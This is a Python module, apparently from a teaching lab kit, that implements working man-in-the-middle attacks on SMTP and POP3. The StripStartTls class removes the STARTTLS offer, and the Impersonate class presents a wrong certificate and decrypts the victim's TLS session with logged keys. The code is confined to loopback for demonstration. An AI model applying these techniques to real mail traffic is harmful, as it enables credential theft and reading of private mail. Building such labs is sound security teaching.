"""The machine in the middle: it listens where the victim's mail program connects, and passes on what both sides say.

Each connection has two legs, the victim's and the provider's. What differs between the attacks is where TLS is spoken, by
whom, and with which certificate. Everything is on loopback: a machine in the middle is given a running Provider of the lab,
and there is no way to give it an address.
"""

import asyncio
import contextlib
import ssl
from abc import abstractmethod
from collections.abc import Awaitable, Callable
from functools import partial
from typing import cast

from labkit.attack.victim import SPEECHES, Speech, expect_provider
from labkit.capture import Capture
from labkit.decode.protocols import POP3, SMTP
from labkit.errors import BadSetting, LabError
from labkit.files import KeyLogFile
from labkit.mail.accounts import DOMAIN
from labkit.mail.certificates import Certificate, authority
from labkit.mail.policy import Security
from labkit.provider import Provider, known_names
from labkit.startable import Startable
from labkit.texts import _
from labkit.wire.loopback import HOST
from labkit.wire.network import Network

LINE_LIMIT = 2**26  # octets: no mail program's line is too long for the middle
PATIENCE = 0.2  # seconds that a leg has to say goodbye


class Leg(asyncio.Protocol):
    """One of the two connections: bytes to read, a transport to write to, and TLS when it is wanted."""

    transport: asyncio.Transport

    def __init__(self, serve: Callable[["Leg"], Awaitable[None]] | None = None) -> None:
        self._serve = serve
        self._lost = asyncio.Event()
        self.reader = asyncio.StreamReader(LINE_LIMIT)

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport = cast(asyncio.Transport, transport)
        if self._serve is not None:
            self._task = asyncio.ensure_future(self._serve(self))

    def data_received(self, data: bytes) -> None:
        self.reader.feed_data(data)

    def eof_received(self) -> None:
        self.reader.feed_eof()

    def connection_lost(self, exc: Exception | None) -> None:
        self.reader.feed_eof()
        self._lost.set()

    async def start_tls(self, context: ssl.SSLContext, server_name: str | None = None) -> None:
        """Speak TLS from here on: as a client with the server of that name, else as a server."""
        self.reader = asyncio.StreamReader(LINE_LIMIT)
        secured = None
        try:
            secured = await asyncio.get_running_loop().start_tls(
                self.transport, self, context, server_side=server_name is None, server_hostname=server_name
            )
        finally:
            if secured is None:  # asyncio has closed the connection, and tells nobody
                self._lost.set()
        if secured is None:  # what asyncio returns when the other end leaves during the handshake
            raise ConnectionAbortedError
        self.transport = secured

    async def copy_to(self, other: "Leg") -> None:
        """Pass on everything that comes, then the end."""
        while octets := await self.reader.read(2**16):
            other.transport.write(octets)
        other.finish()

    def finish(self) -> None:
        """Close, once: a second close() of a TLS transport breaks it in Python 3.11.0 to 3.11.2."""
        if not self.transport.is_closing():
            self.transport.close()

    async def close(self) -> None:
        """Close, and do not wait long for the other end to agree."""
        self.finish()
        try:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self._lost.wait(), PATIENCE)
        finally:
            self.transport.abort()


async def _answer(leg: Leg, asked: str = "") -> bytes:
    """A whole reply: SMTP's lines with a hyphen go on, and so does POP3's answer to CAPA up to a lone dot."""
    reply = line = await leg.reader.readline()
    listing = asked == "CAPA" and line.startswith(b"+OK")
    while line and (line.rstrip() != b"." if listing else line[:3].isdigit() and line[3:4] == b"-"):
        line = await leg.reader.readline()
        reply += line
    return reply


def _verb(line: bytes) -> str:
    return line.strip().upper().decode("ascii", "replace")


class Middle(Startable):
    """A machine between a victim and a running provider. A context manager. Raises LabError when it does not run.

    The victim's mail program connects to `smtp_port` and `pop3_port` instead of the provider's, as it would after a
    manipulated DNS answer or on a hostile access point.
    """

    def __init__(self, provider: Provider, *wanted: Security) -> None:
        expect_provider(provider)
        if provider.policy.security not in wanted:
            message = _(
                "The policy {policy} leaves nothing to this attack: start a provider with one of the policies {names}."
            )
            names = ", ".join(security.value for security in wanted)
            raise LabError(message.format(policy=provider.policy.name, names=names))
        self._provider = provider
        self._network = Network()
        self._ports: tuple[int, int] | None = None

    def start(self) -> None:
        """Listen. Harmless when it runs already."""
        if self._ports:
            return
        self._network.start()
        try:
            smtp, pop3 = (self._listen(SPEECHES[protocol]) for protocol in (SMTP, POP3))
        except BaseException:
            self.stop()
            raise
        self._ports = smtp, pop3

    def stop(self) -> None:
        """Drop every connection and leave nothing behind. Harmless when stopped."""
        self._network.stop()
        self._ports = None

    @property
    def smtp_port(self) -> int:
        """Where the victim's mail program finds its outgoing server."""
        return self._running()[0]

    @property
    def pop3_port(self) -> int:
        """Where the victim's mail program finds its incoming server."""
        return self._running()[1]

    def capture(self, engine: str = "auto") -> Capture:
        """Record the victim's leg; the provider's leg is in `provider.capture()`. engine: as for a provider."""
        return self._record(engine)

    def _record(self, engine: str, keylog: KeyLogFile | None = None) -> Capture:
        names = known_names(self._provider.policy, self._running())
        return Capture(self._network.record(engine), names, keylog_file=keylog)

    def _listen(self, speech: Speech) -> int:
        serve = partial(self._serve, speech, speech.port(self._provider))
        return self._network.listen(lambda: Leg(serve), tls=self._victim_tls()).port

    def _running(self) -> tuple[int, int]:
        if self._ports is None:
            raise _not_running()
        return self._ports

    def _victim_tls(self) -> ssl.SSLContext | None:
        """TLS that the victim finds from the first byte."""
        return None

    def _provider_tls(self) -> ssl.SSLContext:
        return authority().client_context()

    async def _serve(self, speech: Speech, port: int, victim: Leg) -> None:
        implicit = self._provider.policy.security is Security.SSL
        tls, name = (self._provider_tls(), DOMAIN) if implicit else (None, None)
        legs = [victim]
        try:
            _transport, real = await asyncio.get_running_loop().create_connection(
                Leg, HOST, port, ssl=tls, server_hostname=name
            )
            legs.append(real)
            await self._pass_on(speech, victim, real)
        except (OSError, ValueError):
            pass  # one of the two has gone, or has said what no mail program says: so the middle goes too
        finally:
            await asyncio.gather(*(leg.close() for leg in legs))

    @abstractmethod
    async def _pass_on(self, speech: Speech, victim: Leg, real: Leg) -> None:
        """What this one does with what the two say."""


def _not_running() -> BadSetting:
    return BadSetting(_("This machine in the middle does not run: use it in a `with` block."))


class StripStartTls(Middle):
    """Takes the offer of TLS away: the victim's mail program sees a provider without STARTTLS and STLS.

    To the provider it speaks TLS itself, so the provider is content; to the victim it passes on, in the clear, what the
    provider says inside TLS, where no TLS is offered again (RFC 3207 section 4.2). STARTTLS and STLS it refuses. A mail
    program that insists on TLS stops here; one that is content with what is offered logs in, and everybody reads along.
    Raises LabError for a provider whose policy is not STARTTLS.
    """

    def __init__(self, provider: Provider) -> None:
        super().__init__(provider, Security.STARTTLS)

    async def _pass_on(self, speech: Speech, victim: Leg, real: Leg) -> None:
        greeting = await _answer(real)
        for command in (*speech.hello, speech.protocol.upgrade):
            real.transport.write(command.encode() + b"\r\n")
            await _answer(real)
        await real.start_tls(self._provider_tls(), DOMAIN)
        victim.transport.write(greeting)
        turn = _Turn(speech)
        await asyncio.gather(turn.from_victim(victim, real), turn.from_provider(real, victim))


class _Turn:
    """Both directions of a stripped session. Whether the victim's next line is data is known from the provider's last."""

    def __init__(self, speech: Speech) -> None:
        self._speech = speech
        self._data = False

    async def from_victim(self, victim: Leg, real: Leg) -> None:
        while line := await victim.reader.readline():
            if not self._data and _verb(line) == self._speech.protocol.upgrade:
                victim.transport.write(self._speech.no_tls + b"\r\n")
            else:
                real.transport.write(line)
        real.finish()

    async def from_provider(self, real: Leg, victim: Leg) -> None:
        while line := await real.reader.readline():
            self._data = line.startswith(self._speech.asks)
            victim.transport.write(line)
        victim.finish()


class Impersonate(Middle):
    """Pretends to be the provider, with a certificate that is wrong in one way, and opens TLS to the real one.

    A mail program that checks certificates ends the handshake before it has said anything secret. One that does not check
    speaks inside TLS, but with the machine in the middle: `read` is what that machine could read.
    certificate: "wrong-name", "expired" or "unknown-issuer". Raises LabError for a policy without TLS, BadSetting for
    another certificate.
    """

    def __init__(self, provider: Provider, certificate: Certificate | str = Certificate.WRONG_NAME) -> None:
        super().__init__(provider, Security.STARTTLS, Security.SSL)
        wrong = [known for known in Certificate if known is not Certificate.GOOD]
        if certificate not in wrong:
            message = _(
                "A stranger in between has no certificate {name!r}, only one that is wrong: choose one of {names}."
            )
            raise BadSetting(message.format(name=str(certificate), names=", ".join(wrong)))
        self._certificate = Certificate(certificate)
        self._keylog: KeyLogFile | None = None
        self._recorded: Capture | None = None

    def start(self) -> None:
        """Listen, and read along."""
        if self._ports:
            return
        self._keylog = KeyLogFile()
        try:
            super().start()
            self._recorded = self._record("tap", self._keylog)  # what its own sockets had
            self._recorded.start()
        except BaseException:
            self.stop()
            raise

    def stop(self) -> None:
        """Drop every connection; what was read is kept."""
        if self._recorded is not None:
            self._recorded.stop()
        super().stop()
        if self._keylog is not None:
            self._keylog.close()

    @property
    def read(self) -> Capture:
        """What the machine in the middle read on the victim's leg: the ciphertext, opened with its own TLS keys.

        Exposure and dialogue tell what it knows, and no longer what an eavesdropper would.
        """
        if self._recorded is None or self._keylog is None:
            raise _not_running()
        return self._recorded.read_with(self._keylog.text())

    def _wrong_tls(self) -> ssl.SSLContext:
        return authority().server_context(self._certificate, keylog=self._keylog)

    def _victim_tls(self) -> ssl.SSLContext | None:
        return self._wrong_tls() if self._provider.policy.security is Security.SSL else None

    async def _pass_on(self, speech: Speech, victim: Leg, real: Leg) -> None:
        if self._provider.policy.security is Security.STARTTLS:
            await self._upgrade(speech, victim, real)
        await asyncio.gather(victim.copy_to(real), real.copy_to(victim))

    async def _upgrade(self, speech: Speech, victim: Leg, real: Leg) -> None:
        """Command by command in the clear, up to the one that starts TLS: then twice, once on each leg."""
        answer, command = await _answer(real), ""
        while command != speech.protocol.upgrade or not speech.accepts(answer):
            victim.transport.write(answer)
            line = await victim.reader.readline()
            if not line:
                raise ConnectionAbortedError
            command = _verb(line)
            real.transport.write(line)
            answer = await _answer(real, command)
        victim.transport.write(answer)
        await victim.start_tls(self._wrong_tls())
        await real.start_tls(self._provider_tls(), DOMAIN)
